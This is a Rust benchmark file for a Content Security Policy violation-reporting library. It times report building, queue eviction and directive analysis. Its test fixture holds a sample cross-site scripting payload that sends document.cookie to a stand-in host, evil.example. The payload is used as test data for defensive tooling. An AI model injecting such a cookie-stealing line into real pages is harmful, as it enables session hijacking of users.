// Copyright (c) 2026 Bountyy Oy. All rights reserved.

use chrono::{TimeZone, Utc};
use criterion::{black_box, criterion_group, criterion_main, Criterion};

use csp_sentinel::policy::DirectiveAnalyzer;
use csp_sentinel::{build_report, ReportQueue, ViolationEvent};

fn event() -> ViolationEvent {
    ViolationEvent::new()
        .blocked_uri("https://evil.example/payload.js")
        .document_uri("https://app.example.com/checkout")
        .directive("script-src")
        .original_policy("default-src 'self'; script-src 'self'")
        .sample("alert(document.cookie); fetch('https://evil.example/?c=' + document.cookie)")
        .location("https://app.example.com/app.js", 42, 7)
}

fn report_building_benchmark(c: &mut Criterion) {
    let event = event();
    let now = Utc.with_ymd_and_hms(2026, 1, 1, 12, 0, 0).unwrap();

    c.bench_function("build_report", |b| {
        b.iter(|| {
            black_box(build_report(
                black_box(&event),
                now,
                "csp-sentinel/bench",
                "https://app.example.com/checkout",
            ))
        })
    });
}

fn queue_eviction_benchmark(c: &mut Criterion) {
    let now = Utc.with_ymd_and_hms(2026, 1, 1, 12, 0, 0).unwrap();
    let report = build_report(&event(), now, "csp-sentinel/bench", "https://app.example.com/");
    let mut queue = ReportQueue::new(100);
    for _ in 0..100 {
        queue.enqueue(report.clone());
    }

    c.bench_function("enqueue_at_capacity", |b| {
        b.iter(|| black_box(queue.enqueue(report.clone())))
    });
}

fn policy_analysis_benchmark(c: &mut Criterion) {
    let analyzer = DirectiveAnalyzer::new();
    let policy = "default-src 'self'; script-src 'self' 'unsafe-inline' cdn.example.com; \
                  style-src 'self'; img-src * data:; object-src 'none'";

    c.bench_function("analyze_directives", |b| {
        b.iter(|| black_box(analyzer.analyze(black_box(policy))))
    });
}

criterion_group!(
    benches,
    report_building_benchmark,
    queue_eviction_benchmark,
    policy_analysis_benchmark
);
criterion_main!(benches);
